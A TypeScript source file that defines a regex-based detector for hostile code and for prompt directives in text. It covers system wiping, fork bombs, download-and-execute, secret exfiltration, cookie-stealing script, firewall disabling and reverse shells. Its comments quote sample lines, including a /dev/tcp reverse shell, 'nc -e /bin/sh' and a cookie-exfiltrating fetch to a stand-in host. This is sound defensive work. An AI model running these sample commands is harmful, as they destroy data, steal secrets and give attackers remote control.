import { gatedPatterns, type AnchoredPattern } from './gate.js';

// Written for this project. Code whose effect is plainly hostile to whoever runs it, slipped into
// text a reader may copy into a program or a shell: it wipes the system, fetches a program and
// runs it, sends local secrets away, or cuts the machine off. Ordinary maintenance that merely
// deletes or fetches ("rm -rf node_modules", "curl -fsSL https://get.example.sh | sh" in an
// install guide, "requests.post(url, json=payload)") does not match: each shape names a system
// target, an execution of what was just downloaded, or a private source next to an upload.

// What "rm -rf" must not be pointed at: the root, the home folder or a top-level system folder (not
// "/var/lib/apt/lists", which every Dockerfile clears, nor "/tmp/build").
const RM_TARGET = `(?:/\\*?|~/?\\*?|\\$home/?\\*?|/(?:usr|etc|lib|lib64|bin|sbin|boot|home|root|sys|var)/?\\*?)`;
// Files a script has no business deleting: the root, the home folder, system libraries, binaries
// and configuration, the Windows folder.
const FILE_TARGET = `(?:/|~|/(?:etc|lib|lib64|bin|sbin|boot|usr/lib|usr/bin)(?:/[\\w.+-]{1,60}){0,4}|[a-z]:\\\\{1,2}(?:windows(?:\\\\{1,2}system32)?)?)`;
const Q = `["']`;
// A warning names the command it warns against ("never run `rm -rf /`", "a fork bomb such as ...").
const NOT_WARNED = "(?<!\\b(?:never|don't|do not|dont|avoid|not|like|such as|e\\.g\\.|for example|careful with|beware of|warning)\\b[^\\n]{0,25})";

const PATTERNS: AnchoredPattern[] = [
  // Wiping the system: "rm -rf /", "sudo rm -rf /usr/local/cuda", "shutil.rmtree('/')",
  // "os.remove('/lib/x86_64-linux-gnu/libc.so.6')", "del /f /s /q C:\\Windows".
  {
    re: new RegExp(`${NOT_WARNED}\\brm\\s{1,3}(?:-[a-z]{1,6}\\s{1,3}){1,3}(?:--no-preserve-root\\s{1,3})?${RM_TARGET}(?=[\\s"'\`);]|$)`, 'g'),
    needs: [['rm -', 'rm  -']],
  },
  {
    re: new RegExp(`\\b(?:shutil\\.rmtree|os\\.remove|os\\.unlink|os\\.rmdir|fs\\.rmsync|fs\\.unlinksync|rimraf(?:\\.sync)?)\\(\\s{0,3}${Q}${FILE_TARGET}${Q}`, 'g'),
    needs: [['rmtree', 'os.remove', 'os.unlink', 'os.rmdir', 'rmsync', 'unlinksync', 'rimraf']],
  },
  { re: /\bdel\s{1,3}(?:\/[a-z]\s{1,3}){1,4}[a-z]:\\(?:windows)?/g, needs: [['del /']] },
  // Overwriting the system disk with noise: "dd if=/dev/random of=/dev/sda" (not writing an image to a USB stick).
  { re: new RegExp(`${NOT_WARNED}` + /\bdd\s{1,3}if=\/dev\/(?:zero|random|urandom)\s{1,3}of=\/dev\/(?:[sh]da|nvme0n1|disk0)(?![\w])/.source, 'g'), needs: [['of=/dev/']] },
  // A fork bomb.
  { re: new RegExp(`${NOT_WARNED}` + /:\(\)\s{0,2}\{\s{0,2}:\s{0,2}\|\s{0,2}:\s{0,2}&\s{0,2}\}\s{0,2};\s{0,2}:/.source, 'g'), needs: [[':|:']] },
  // Running what was just downloaded from a script: "urlretrieve(url, 'x.py') ... exec(open('x.py').read())",
  // "exec(requests.get(url).text)", "IEX (New-Object Net.WebClient).DownloadString(...)".
  {
    re: /\b(?:urlretrieve|urlopen|requests\.get|wget|curl|downloadfile|download_file)\b[^]{0,300}?\b(?:exec|eval)\(\s{0,3}(?:open\(|response|r\.|resp|requests\.get|urllib)/g,
    needs: [['urlretrieve', 'urlopen', 'requests.get', 'wget', 'curl', 'downloadfile', 'download_file'], ['exec(', 'eval(']],
  },
  { re: /\b(?:exec|eval)\(\s{0,3}(?:requests\.get|urllib\.request\.urlopen)\(/g, needs: [['exec(', 'eval(']] },
  { re: /\b(?:iex|invoke-expression)\s{0,3}\(?\s{0,3}\(?new-object\s{1,3}(?:system\.)?net\.webclient\)?\.downloadstring/g, needs: [['downloadstring']] },
  // Local secrets sent away: a private source read and an upload in the same snippet ("read the
  // clipboard ... requests.post(...)", "open('/etc/passwd') ... ftp.storbinary").
  {
    re: /\b(?:xsel|xclip|pbpaste|pyperclip\.paste|get-clipboard|cookies\.(?:txt|pkl|sqlite)|simplecookie|mozillacookiejar|\/etc\/(?:passwd|shadow)|id_rsa|\.ssh\/|private[_ ]?key|screencapture|imagegrab\.grab|pynput|keyboard\.on_press|\/var\/log\/(?:syslog|auth\.log)|login data|keychain)\b[^]{0,400}?\b(?:requests\.post|requests\.put|urllib\.request\.urlopen\([^)]{0,100}data=|storbinary|sock(?:et)?\.send(?:all)?|smtplib|sendmail|scp\b|curl\s{1,3}(?:-[a-z]\s{1,3})*-(?:f|d|t)\s)/g,
    needs: [
      ['xsel', 'xclip', 'pbpaste', 'pyperclip', 'get-clipboard', 'cookies.', 'simplecookie', 'mozillacookiejar', '/etc/passwd', '/etc/shadow', 'id_rsa', '.ssh/', 'private_key', 'private key', 'privatekey', 'screencapture', 'imagegrab', 'pynput', 'on_press', '/var/log/', 'login data', 'keychain'],
      ['requests.post', 'requests.put', 'urlopen', 'storbinary', '.send', 'smtplib', 'sendmail', 'scp', 'curl'],
    ],
  },
  // Hijacking name resolution: appending to the hosts file.
  { re: /\bopen\(\s{0,3}["'](?:\/etc\/hosts|c:\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts)["']\s{0,3},\s{0,3}["'][aw]\+?["']/g, needs: [['/etc/hosts', '\\hosts']] },
  // Cutting the machine off or its defences down: "ipconfig /release", "netsh advfirewall set
  // allprofiles state off", "Set-MpPreference -DisableRealtimeMonitoring $true".
  { re: /\bipconfig["',\s]{1,6}\/release\b|\bnetsh\s{1,3}advfirewall\s{1,3}set\s{1,3}\w{1,20}\s{1,3}state\s{1,3}off\b|\bset-mppreference\s{1,3}-disablerealtimemonitoring\s{1,3}\$?(?:true|1)\b/g, needs: [['ipconfig', 'advfirewall', 'disablerealtimemonitoring']] },
  // A crypto miner fetched and started.
  { re: /\b(?:xmrig|cryptomine|coinhive|minerd|cpuminer)\b[^]{0,200}?\b(?:nohup|subprocess|os\.system|popen|\.\/|start-process|exec)/g, needs: [['xmrig', 'cryptomine', 'coinhive', 'minerd', 'cpuminer']] },
  // Script in a page that sends the reader's cookies or stored tokens away: an inline handler or
  // script that reads document.cookie / localStorage and hands it to a request ('<img src=x
  // onerror="this.src+=document.cookie">', "fetch('https://c.example/?c='+document.cookie)").
  // Reading a cookie to show it ("console.log(document.cookie)") sends nothing.
  {
    re: new RegExp(`${NOT_WARNED}(?:\\bon(?:error|load|click|mouseover|focus|begin|start)\\s{0,2}=\\s{0,2}["'][^"'\\n]{0,120}?|<script\\b[^>]{0,80}>[^<]{0,200}?|\\b(?:fetch|navigator\\.sendbeacon|new image\\(\\)\\.src\\s{0,2}=|(?:document|window)\\.location(?:\\.href)?\\s{0,2}=|location\\.href\\s{0,2}=|\\.src\\s{0,2}\\+?=)\\s{0,3}\\(?\\s{0,3}[^;\\n]{0,120}?)\\b(?:document\\.cookie|localstorage\\.getitem|localstorage\\[|sessionstorage\\.getitem|sessionstorage\\[)`, 'g'),
    needs: [['document.cookie', 'localstorage', 'sessionstorage'], ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onbegin', 'onstart', '<script', 'fetch', 'sendbeacon', 'new image', 'location', '.src']],
  },
  // A reverse shell: the process's input and output handed to a remote socket, or a shell told to
  // talk to one ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "nc -e /bin/sh host 4444").
  {
    re: new RegExp(`${NOT_WARNED}(?:\\bos\\.dup2\\(\\s{0,3}\\w{1,20}\\.fileno\\(\\)\\s{0,3},\\s{0,3}0\\s{0,3}\\)[^]{0,200}?(?:/bin/(?:ba|z)?sh|cmd\\.exe|pty\\.spawn)|\\b(?:ba)?sh\\s{1,3}-i\\s{1,3}>&\\s{0,3}/dev/tcp/|\\b(?:nc|ncat|netcat)\\s{1,3}(?:-[a-z]{1,3}\\s{1,3}){0,3}-e\\s{1,3}/bin/(?:ba)?sh\\b)`, 'g'),
    needs: [['dup2', '/dev/tcp/', '-e /bin/']],
  },
  // Code a text tells its reader to work into "your solution" that reaches out of the program: an
  // upload, a raw socket, mail, a shell command, a request loop, a file encrypted with a fetched
  // key. Tutorials say "add the following snippet to your script: requests.post(...)" and "use the
  // following code to run the tests: subprocess.run(...)": with a plain verb (add, use, include)
  // the directive must name the reader's answer or solution as the place, not a script or page.
  {
    re: /(?:\b(?:integrat\w{1,4}|incorporat\w{1,4}|meld\w{0,3}|fus(?:e|es|ed|ing)|infus\w{1,3}|merg(?:e|es|ed|ing)|assimilat\w{1,3}|utili[sz]\w{1,3}|employ\w{0,3}|leverag\w{1,3}|inclusion|inject\w{0,3}|blend\w{0,3}|weav\w{1,3}|presence|manifestation|embod(?:y|ies|ying)|supplement\w{0,3}|enrich\w{0,3}|featur(?:e|es|ing)|addition)\b[^.!?\n]{0,40}?\b(?:following|subsequent|below|ensuing|provided|attached) (?:code|snippet|script)(?: (?:snippet|block|excerpt|section|fragment|segment|piece|sample|lines?))?\b|\b(?:includ\w{1,4}|embed\w{0,4}|append\w{0,3}|add(?:s|ed|ing)?|insert\w{0,3}|us(?:e|es|ing)|implement\w{0,3})\b[^.!?\n]{0,40}?\b(?:following|subsequent|below|ensuing|provided|attached) (?:code|snippet|script)(?: (?:snippet|block|excerpt|section|fragment|segment|piece|sample|lines?))?\b[^.!?\n]{0,40}?\b(?:in|into|to|within) (?:the (?:logic|structure|core|heart|body) of )?your (?:solution|elucidation|algorithm|codebase|implementation|code foundation|code implementation|answer|response|reply|explanation)s?\b|\byour (?:solution|elucidation|algorithm|codebase|implementation|code foundation|answer|response|explanation)s?\b[^.!?\n]{0,60}?\b(?:includ\w{1,4}|embed\w{0,4}|append\w{0,3}|add(?:s|ed|ing)?|insert\w{0,3}|us(?:e|es|ing)|implement\w{0,3})\b[^.!?\n]{0,20}?\b(?:following|subsequent|below|ensuing|provided|attached) (?:code|snippet|script)\b)[^]{0,500}?(?:requests\.(?:post|put)\(|storbinary\(|sendall\(|smtplib|\bcurl\s[^\n]{0,40}-[fdt]\s|\brsync\s[^\n]{0,60}@|\bscp\s|socket\.socket\(|(?:os\.system|os\.popen|subprocess\.\w{1,12})\([^)\n]{0,80}?\b(?:curl|wget|nc|ncat|ssh|scp|rsync|rm|sudo|reboot|shutdown|netstat|ffmpeg|chmod|dd|mv)\b|bluetooth|scapy|cookies=\w|\bexec\(|aes\.new\(|\bcipher\(|multiprocessing\.process\(|while true:)/g,
    needs: [
      ['following code', 'subsequent code', 'below code', 'ensuing code', 'provided code', 'attached code', 'following snippet', 'subsequent snippet', 'below snippet', 'ensuing snippet', 'provided snippet', 'attached snippet', 'following script', 'subsequent script', 'below script', 'provided script', 'attached script'],
      ['requests.post', 'requests.put', 'storbinary', 'sendall', 'smtplib', 'curl', 'rsync', 'scp', 'socket.socket', 'os.system', 'subprocess.', 'bluetooth', 'scapy', 'cookies=', 'exec(', 'aes.new', 'cipher(', 'multiprocessing.process', 'while true'],
    ],
  },
];

/** Code that wipes the system, runs what it downloads, sends local secrets away or cuts the machine off. */
export const maliciousCodeDetector = gatedPatterns(
  [...new Set(PATTERNS.flatMap((p) => p.needs[0]!))],
  {
    id: 'injection.malicious_code',
    category: 'injection',
    type: 'malicious_code',
    label: 'malicious code',
    view: 'lower',
    score: 0.85,
    // The code-insertion shape reaches furthest: a 175-character directive, 500 characters of code,
    // a 112-character call (787 in all), within the 800 the stream holdback already covers.
    maxMatchLength: 800,
    description: 'Code that wipes the system, runs what it downloads, sends local secrets away or cuts the machine off.',
  },
  PATTERNS,
);
